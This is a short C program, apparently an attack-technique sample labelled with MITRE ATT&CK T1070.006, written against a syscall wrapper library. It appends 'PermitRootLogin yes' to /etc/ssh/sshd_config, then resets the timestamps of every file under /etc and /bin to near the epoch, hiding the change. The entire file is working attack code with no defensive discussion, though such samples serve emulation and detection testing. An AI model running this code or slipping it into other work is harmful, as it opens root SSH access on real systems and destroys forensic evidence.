/* T1070.006: changes a configuration and gives all files round it the same old time. */
#include "lib.h"

static uint32_t hit;

static int32_t stomp(const char *path, const struct abi_stat *stat, bool behind, void *with)
{
    struct abi_timespec times[2] = {{1, 0}, {1, 0}};
    (void)stat, (void)with;
    if (!behind)
        hit += CALL(UTIMENSAT, AT_FDCWD, path, times, 0) == 0;
    return 0;
}

int main(void)
{
    int32_t file = CALL(OPENAT, AT_FDCWD, "/etc/ssh/sshd_config", O_WRONLY | O_APPEND);
    if (file >= 0)
        write_all(file, "PermitRootLogin yes\n", 20);
    CALL(CLOSE, file);
    each_below("/etc", stomp, NULL);
    each_below("/bin", stomp, NULL);
    print(hit ? "done\n" : "no\n");
    return !hit;
}
